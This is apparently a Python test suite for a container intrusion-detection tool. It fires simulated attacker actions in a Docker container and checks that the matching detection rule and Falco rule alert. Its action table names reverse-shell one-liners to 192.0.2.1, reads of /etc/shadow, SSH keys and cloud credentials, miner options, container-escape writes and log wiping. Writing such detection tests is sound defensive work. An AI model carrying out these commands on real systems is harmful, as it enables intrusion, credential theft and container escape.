#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""bulkhead watch with its own rules, on this kernel: a program of ours does one suspicious thing at a time in a container of a real Docker, and the rule that is
meant for it fires, for that container, process and moment, and no other does. What containers do all day gives no alert."""
import collections
import contextlib
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import engine_start  # noqa: E402
from common import PROGRAM, SHARED, Tap  # noqa: E402

tap = Tap()
HERE = os.path.dirname(os.path.abspath(__file__))
QUIET_SECONDS = int(os.environ.get("WATCH_QUIET_SECONDS", "20"))
MILLISECOND = 1000 * 1000
# Programs of these names, which do nothing.
NAMES = ("ash apt-get cat chattr curl docker find gcc idle kubectl linpeas nc ncat nginx nmap nsenter pkexec pkill python3 scp setcap shred touch useradd xmrig "
         "crontab logrotate su dash cron").split()
TMP_RULE, UPPER_RULE = "Program in a temporary directory", "Program that is not in the image"
MODULE_RULE = "Kernel module loaded or removed"

# What is done, the rule, further rules that may fire too, the name of the process when it is not `actions`.
ACTS = [
    # shells
    ("run /bin/dash -c true", None),
    ("run /bin/nginx run /bin/dash -c true", "Shell started by a server", (), "dash"),
    ("reverse", "Socket as standard input or output"),
    ("run /bin/dash -c exec-/dev/tcp/192.0.2.1/1", "Reverse shell on one line", (), "dash"),
    ("run /bin/nc -e /bin/dash 192.0.2.1 1", "Network tool that runs a program", ("Network tool in a container",), "nc"),
    ("run /bin/dash -c echo|base64 -d|sh", "Encoded command given to a shell", (), "dash"),
    # programs
    ("drop /data/new", UPPER_RULE, (), "new"),
    ("drop /tmp/new", TMP_RULE, (UPPER_RULE,), "new"),
    ("drop /opt/.hidden/new", "Program with a hidden name", (UPPER_RULE,), "new"),
    ("memory", "Program that is only in memory", (), None),
    ("run-as /bin/idle [kworker/0:1]", "Process disguised as the kernel", (), "idle"),
    ("run /bin/apt-get install x", "Package manager in a container", (), "apt-get"),
    ("run /bin/python3 -m pip install x", "Package manager in a container", (), "python3"),
    ("run /bin/gcc x.c", "Compiler in a container", (), "gcc"),
    ("run /bin/kubectl get pods", "Client of an engine or a cluster in a container", (), "kubectl"),
    ("run /bin/docker ps", "Client of an engine or a cluster in a container", (), "docker"),
    ("run /bin/linpeas", "Tool of attackers", (), "linpeas"),
    ("run /bin/useradd x", "User management in a container", (), "useradd"),
    ("run-with LD_PRELOAD=/tmp/x.so /bin/idle", "Loader told to load from a temporary directory", (), "idle"),
    ("run /bin/pkexec", "Known way to become root", (), "pkexec"),
    # files
    ("write /usr/bin/new", "Write below a directory of programs"),
    ("write /usr/lib/libnew.so", "Write below a directory of programs"),
    ("creat /usr/local/bin/new", "Write below a directory of programs"),
    ("rename /data/x /usr/sbin/x", "Program replaced, moved or removed"),
    ("link /data/x /usr/bin/y", "Program replaced, moved or removed"),
    ("write /etc/shadow", "Accounts file written"),
    ("write /etc/sudoers.d/x", "Authentication settings written"),
    ("write /etc/ssl/certs/x.pem", "Trusted certificates written"),
    ("mode /data/raised 4755", "Set-user-id bit set"),
    ("run /bin/setcap cap_net_raw+ep /data/x", "File capabilities or attributes set", (), "setcap"),
    ("run /bin/touch -d 2001-01-01 /data/x", "Time of a file set", (), "touch"),
    # coming back
    ("write /etc/cron.d/x", "Job for cron written"),
    ("write /var/spool/cron/root", "Job for cron written"),
    ("write /etc/systemd/system/x.service", "Service or start script written"),
    ("write /etc/ld.so.preload", "Preload list of the loader written"),
    ("write /root/.ssh/authorized_keys", "SSH keys authorised"),
    ("write /root/.bashrc", "Shell start-up file written"),
    ("run /bin/crontab x", "Job for cron given by command", (), "crontab"),
    # credentials
    ("read /etc/shadow", "Shadow file read"),
    ("read /root/.ssh/id_rsa", "Private key of SSH read"),
    ("read /root/.aws/credentials", "Cloud credentials read"),
    ("run /bin/cat read /run/secrets/kubernetes.io/serviceaccount/token", "Token of a service account read by a tool", (), "cat"),
    ("of-process environ", "Environment of a process read"),
    ("of-process mem", "Memory of a process opened"),
    ("run /bin/find / -name id_rsa", "Search for credentials", (), "find"),
    # network
    ("connect 169.254.169.254 80", "Metadata service contacted"),
    ("connect6 fd00:ec2::254 80", "Metadata service contacted"),
    ("packet", "Packet socket opened"),
    ("raw", "Raw socket opened"),
    ("run /bin/curl connect 192.0.2.1 6667", "Connection to IRC or Tor", (), "curl"),
    ("connect 192.0.2.1 2375", "Engine contacted over TCP"),
    ("run /bin/nmap -sS 192.0.2.1", "Network scanner in a container", (), "nmap"),
    ("run /bin/ncat 192.0.2.1 80", "Network tool in a container", (), "ncat"),
    ("run /bin/nc -z db 5432", None),
    ("run /bin/scp x y:", "Tool for copying to other machines", (), "scp"),
    ("run /bin/curl -o /tmp/x http://192.0.2.1/x", "Download into a temporary directory", (), "curl"),
    ("run /bin/curl -f http://localhost:8080/", None),
    ("run /bin/curl https://kubernetes.default/api/v1/pods", "Cluster asked by hand", (), "curl"),
    # mining
    ("run /bin/xmrig", "Program for mining", (), "xmrig"),
    ("run /bin/idle -o stratum+tcp://192.0.2.1:3333", "Options for mining", (), "idle"),
    ("connect 192.0.2.1 3333", "Connection to a mining pool"),
    # out of the container
    ("set /proc/sys/kernel/core_pattern", "Helper program of the kernel set"),
    ("write /data/cgroup/release_agent", "Helper program of the kernel set"),
    ("set /proc/sys/kernel/panic_on_oops", "Setting of the kernel written"),
    ("set /sys/kernel/uevent_helper", "Setting of the kernel tried"),
    ("write /data/sysrq-trigger", "Emergency keys of the kernel used"),
    ("read /dev/mem", "Memory of the host opened"),
    ("read /dev/kmsg", "Messages or symbols of the kernel read"),
    ("read /dev/sdz", "Disk of the host opened"),
    ("node /data/disk", "Device node made"),
    ("connect-unix /run/docker.sock", "Socket of an engine contacted"),
    ("mount /data", "Mount in a container"),
    ("unmount /data", "Unmount in a container"),
    ("enter", "Namespace entered"),
    ("unshare", "Namespace made"),
    ("chroot /host", "Root changed to a mount of the host"),
    ("run /bin/nsenter -t 1", "Tool for leaving a container", (), "nsenter"),
    ("write /data/runc", "Runtime overwritten"),
    ("handle", "File opened by its handle"),
    ("write /data/notify_on_release", "Control groups mounted or written"),
    # the kernel and other processes
    ("trace", "Process traced"),
    ("write-memory", "Memory of another process written or read"),
    ("read-memory", "Memory of another process written or read"),
    ("take-descriptor", "Descriptor taken from another process"),
    ("module", MODULE_RULE),
    ("module-file", MODULE_RULE),
    ("bpf", "BPF program loaded"),
    ("faults", "Page faults handled by a process"),
    ("ring", "Ring of asynchronous calls made"),
    # traces
    ("empty /var/log/auth.log", "Log emptied"),
    ("remove /var/log/x.log", "Log removed"),
    ("remove /root/.bash_history", "History of a shell removed"),
    ("link /dev/null /root/.bash_history", "History of a shell removed"),
    ("run /bin/shred /data/x", "Data destroyed", (), "shred"),
    ("run /bin/pkill falco", "Watcher switched off", (), "pkill"),
    # nothing
    ("harmless", None),
    ("run /bin/cron run /bin/logrotate remove /var/log/old.log", None),
]

# Rules of Falco's public files for some of the same.
FALCO = {
    "reverse": "Redirect STDOUT/STDIN to Network Connection in Container", "drop /data/new": "Drop and execute new binary in container",
    "run /bin/nc -e /bin/dash 192.0.2.1 1": "Netcat Remote Code Execution in Container", "memory": "Fileless execution via memfd_create",
    "run /bin/apt-get install x": "Launch Package Management Process in Container", "read /etc/shadow": "Read sensitive file untrusted",
    "packet": "Packet socket created in container", "trace": "PTRACE attached to process", "enter": "Change thread namespace", "run /bin/xmrig": "Known Cryptominer Process Executed",
    "mode /data/raised 4755": "Set Setuid or Setgid bit", "of-process environ": "Read environment variable from /proc files",
    "write /root/.ssh/authorized_keys": "Adding ssh keys to authorized_keys", "run /bin/find / -name id_rsa": "Search Private Keys or Passwords",
    "remove /root/.bash_history": "Delete or rename shell history", "run /bin/nmap -sS 192.0.2.1": "Launch Suspicious Network Tool in Container",
}


class Watcher:
    """A bulkhead watch in the background; its alerts as they come, with the time of arrival."""

    def __init__(self, socket, *options):
        self.alerts, self.complaints = [], []
        self.process = subprocess.Popen([PROGRAM, "watch", "--format", "json", *options], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                        stderr=subprocess.PIPE, text=True, env={**os.environ, "DOCKER_HOST": "unix://" + socket, "CONTAINER_HOST": "unix:///nowhere"})
        self.threads = [threading.Thread(target=self.read, daemon=True), threading.Thread(target=self.hear, daemon=True)]
        for thread in self.threads:
            thread.start()
        for _ in range(100):
            if any("watching by" in line for line in self.complaints) or self.process.poll() is not None:
                break
            time.sleep(0.1)
        time.sleep(0.3)

    def read(self):
        for line in self.process.stdout:
            self.alerts.append({**json.loads(line), "arrived": time.time_ns()})

    def hear(self):
        for line in self.process.stderr:
            self.complaints.append(line.rstrip())

    def works(self):
        return self.process.poll() is None and any("watching by" in line for line in self.complaints)

    def of(self, container, begin=0, end=1 << 63):
        """Alerts of a container within a time, by the kernel's clock."""
        return [one for one in list(self.alerts) if one["output_fields"].get("container.id") == container[:12]
                and begin <= one["output_fields"]["evt.time"] < end]

    def end(self):
        self.process.terminate()
        code = self.process.wait(30)
        for thread in self.threads:
            thread.join(10)
        return code


def make_image(folder):
    """The program under its names as a tar; busybox too, where it is a static program. None where no compiler is."""
    program, archive = os.path.join(folder, "actions"), os.path.join(folder, "image.tar")
    compiler = shutil.which("cc") or shutil.which("gcc")
    if not compiler or engine_start.calls(compiler, "-static", "-O1", "-D_GNU_SOURCE", "-o", program, os.path.join(HERE, "actions.c")).returncode:
        return None
    busybox = shutil.which("busybox")
    with tarfile.open(archive, "w") as tar:
        def entry(name, kind, **more):
            info = tarfile.TarInfo(name)
            info.type, info.mode = kind, 0o755
            for key, value in more.items():
                setattr(info, key, value)
            tar.addfile(info)
        for name in "bin data dev etc proc root run sys tmp usr usr/bin usr/sbin usr/lib usr/local usr/local/bin var var/log opt www".split():
            entry(name, tarfile.DIRTYPE)
        tar.add(program, "bin/actions")
        if busybox:
            tar.add(os.path.realpath(busybox), "bin/busybox")
        entry("bin/sh", tarfile.SYMTYPE, linkname="busybox" if busybox else "actions")
        entry("bin/httpd", tarfile.SYMTYPE, linkname="busybox")
        for name in NAMES:
            entry("bin/" + name, tarfile.SYMTYPE, linkname="actions")
        for name, text in (("etc/passwd", "root:x:0:0::/root:/bin/sh\n"), ("etc/group", "root:x:0:\n"), ("www/index.html", "hello\n")):
            path = os.path.join(folder, os.path.basename(name))
            with open(path, "w", encoding="utf-8") as out:
                out.write(text)
            tar.add(path, name)
    return archive


@contextlib.contextmanager
def docker(folder, archive, driver):
    """A dockerd on folders of its own; None where it does not start."""
    os.makedirs(folder)
    socket = folder + "/unlikely-name.sock"
    with open(folder + "/none.json", "w", encoding="utf-8") as out:
        out.write("{}")
    words = ["dockerd", "--data-root", folder + "/data", "--exec-root", folder + "/exec", "--pidfile", folder + "/pid", "-H", "unix://" + socket,
             "--bridge=none", "--iptables=false", "--ip6tables=false", "--storage-driver", driver, "--config-file", folder + "/none.json"]
    with engine_start.docker_of(words, socket, folder, archive) as engine:
        yield engine


def look_at(watcher, ident, act, begin, end, told, upper):
    """What came of one action."""
    words, rule, may, process = (*act, (), None)[:4] if len(act) == 2 else (*act, None)[:4]
    alerts = watcher.of(ident, begin, end)
    rules = {one["rule"] for one in alerts}
    if rule is None:
        tap.ok(not rules, f"{words}: nothing is told", sorted(rules))
        return
    if rule == UPPER_RULE and not upper:
        tap.skip(f"{words}: {rule}", "the engine has no overlay file system here")
        return
    if rule == MODULE_RULE and not os.path.exists("/proc/modules"):
        tap.skip(f"{words}: {rule}", "this kernel has no modules")
        return
    # what leads to the act is told too: the first program in the container has the other's words on its command line
    found = [one for one in alerts if one["rule"] == rule and one["output_fields"]["evt.time"] >= told]
    fields = found[0]["output_fields"] if found else {}
    late = fields.get("evt.time", 0) - told
    name_right = words == "memory" or fields.get("proc.name") == (process or "actions")
    known = fields.get("container.name") is not None
    good = found and name_right and 0 <= late < 100 * MILLISECOND and found[0]["arrived"] - told < 2000 * MILLISECOND
    good = good and (not known or (fields["container.name"] == "act" and fields.get("container.image.repository") == "kernel-test"))
    tap.ok(good, f"{words}: {rule}", f"fired: {sorted(rules)}", f"late by {late} ns", fields)
    tap.ok(rules <= {rule, *may}, f"{words}: no other rule", sorted(rules - {rule, *may}))


def act_all(engine, watcher, public, upper):
    ident = engine.start("act", "--network", "none", "--security-opt", "seccomp=unconfined", "--security-opt", "systempaths=unconfined",
                         "--cap-add", "SYS_PTRACE", command=("/bin/actions", "sleep"))
    tap.ok(ident, "a container starts", engine.error)
    if not ident:
        return
    windows, started = [], time.time_ns()
    for act in ACTS:
        begin = time.time_ns()
        done = engine.run("exec", "act", "/bin/actions", *act[0].split())
        told = int(done.stdout.split()[0]) if done.stdout.split() else 0
        windows.append((act, begin, time.time_ns(), told))
    time.sleep(1)
    tap.ok(not watcher.of(ident, 0, started), "the start of a container gives no alert", {one["rule"] for one in watcher.of(ident, 0, started)})
    for act, begin, end, told in windows:
        look_at(watcher, ident, act, begin, end, told, upper)
    for act, begin, end, _ in windows if public else []:
        rule = FALCO.get(act[0])
        if rule and (upper or act[0] != "drop /data/new"):
            rules = {one["rule"] for one in public.alerts if begin <= one["output_fields"]["evt.time"] < end}
            tap.ok(rule in rules, f"Falco's rules, {act[0]}: {rule}", sorted(rules))


def use_terminal(engine, watcher):
    """What only counts when somebody sits at a terminal."""
    ident = engine.inspect("act")["Id"]
    for words, rules, process in ((["/bin/dash"], ["Interactive shell in a container"], "dash"),
                                  (["-e", "HISTFILE=/dev/null", "/bin/ash"], ["Interactive shell in a container", "Shell without a history"], "ash"),
                                  (["/bin/su"], ["Becoming root with a terminal"], "su")):
        begin, name = time.time_ns(), [word for word in words if word.startswith("/bin/")][0]
        engine.run("exec", "-t", *words[:-1], "act", name)
        time.sleep(1)
        found = watcher.of(ident, begin)
        tap.ok(sorted(one["rule"] for one in found) == rules and found[0]["output_fields"]["proc.name"] == process, f"{' '.join(words)} with a terminal", found)


def act_on_host(watcher, program):
    """The few rules that are for hosts too."""
    begin = time.time_ns()
    folder = tempfile.mkdtemp(prefix="bulkhead-watch-", dir="/dev/shm")
    try:
        shutil.copy(program, folder + "/idle")
        engine_start.calls(folder + "/idle")
    finally:
        shutil.rmtree(folder)
    time.sleep(1)
    found = [one for one in list(watcher.alerts) if one["output_fields"]["proc.exepath"] == folder + "/idle" and one["output_fields"]["evt.time"] >= begin]
    tap.ok([(one["rule"], one["output_fields"]["container.id"]) for one in found] == [("Program in shared memory", "host")], "shared memory of the host", found)


def run_short(engine, watcher):
    """The first program of a container that is gone at once."""
    done = engine.run("run", "--cidfile", engine.scratch + "/cid", "--name", "short", "--network", "none", "kernel-test:one", "/bin/xmrig", "-o",
                      "stratum+tcp://192.0.2.1:1")
    with open(engine.scratch + "/cid", encoding="utf-8") as text:
        ident = text.read()
    time.sleep(1)
    rules = sorted(one["rule"] for one in watcher.of(ident))
    tap.ok(done.returncode == 0 and rules == ["Options for mining", "Program for mining"], "the first program of a short container", rules, done.stderr)


def ask(port, until):
    """Requests without a pause."""
    count = 0
    while time.time() < until:
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5) as answer:
                count += answer.status == 200
        except OSError:
            time.sleep(0.1)
    return count


def serve_all(engine, watcher):
    """A web server in a container: requests, health checks, logs that are rotated; and a container that is started anew now and then."""
    if not shutil.which("busybox"):
        tap.skip("a busy web server gives no alert", "no busybox")
        return
    port, before = 20000 + os.getpid() % 20000, len(watcher.alerts)
    ident = engine.start("web", "--network", "host", "--health-cmd", "/bin/busybox wget -q -O - http://127.0.0.1:%d/ >/dev/null || exit 1" % port,
                         "--health-interval", "1s", command=("/bin/httpd", "-f", "-p", f"127.0.0.1:{port}", "-h", "/www"))
    tap.ok(ident, "a web server starts", engine.error)
    until, rounds = time.time() + QUIET_SECONDS, 0
    threads = [threading.Thread(target=lambda: counts.append(ask(port, until))) for _ in range(2)]
    counts = []
    for thread in threads:
        thread.start()
    while time.time() < until:
        rounds += 1
        engine.run("exec", "web", "/bin/sh", "-c", "cd /var/log && echo line >>access.log && mv access.log access.log.1 && : >access.log && kill -0 1")
        engine.run("exec", "web", "/bin/logrotate", "remove", "/var/log/access.log.1")
        engine.run("run", "--rm", "--network", "none", "kernel-test:one", "/bin/sh", "-c", "id; cat /etc/passwd; ls -l /")
        time.sleep(1)
    for thread in threads:
        thread.join()
    health = engine.inspect("web")["State"].get("Health", {}).get("Status")
    engine.remove("web")
    time.sleep(1)
    rules = collections.Counter(one["rule"] for one in watcher.alerts[before:])
    tap.ok(sum(counts) > 100 and health == "healthy", "the web server answers and is healthy", counts, health)
    print(f"# {sum(counts)} requests, {rounds} rounds of rotation and short containers in {QUIET_SECONDS} s")
    tap.ok(not rules, "an idle engine, a busy web server and short containers give no alert", dict(rules),
           *sorted({one["output"][20:] for one in watcher.alerts[before:]})[:20])


def watch_all(scratch, archive, driver):
    with docker(scratch + "/docker", archive, driver) as engine:
        if not engine:
            return False
        watcher = Watcher(engine.socket)
        public = None
        files = [os.path.join(SHARED, "falco", "rules", name) for name in ("falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml")]
        try:
            if not watcher.works():
                tap.skip("alerts of running containers", f"events of the kernel are not to be had: {watcher.complaints[:1]}")
                return True
            if all(map(os.path.exists, files)):
                public = Watcher(engine.socket, *(word for name in files for word in ("-r", name)))
            else:
                tap.skip("Falco's rules on the same actions", "no shared data")
            act_all(engine, watcher, public, driver == "overlay2")
            use_terminal(engine, watcher)
            act_on_host(watcher, scratch + "/actions")
            run_short(engine, watcher)
            serve_all(engine, watcher)
        finally:
            code = watcher.end()
            if public:
                public.end()
        complaints = [line for line in watcher.complaints if "watching by" not in line]
        tap.ok(code == 1 and not complaints, "it ends with 1 and lost nothing", code, complaints)
    return True


def main():
    if os.geteuid() or not shutil.which("dockerd") or not shutil.which("docker"):
        tap.skip("alerts of running containers", "this takes root and an engine")
        tap.end()
    scratch = tempfile.mkdtemp(prefix="bulkhead-watch-")
    try:
        archive = make_image(scratch)
        if not archive:
            tap.skip("alerts of running containers", "no compiler for static programs")
        elif not watch_all(scratch, archive, "overlay2"):
            engine_start.remove(scratch + "/docker")
            if not watch_all(scratch, archive, "vfs"):
                tap.skip("alerts of running containers", "no engine starts here")
    finally:
        engine_start.remove(scratch)
    tap.end()


main()
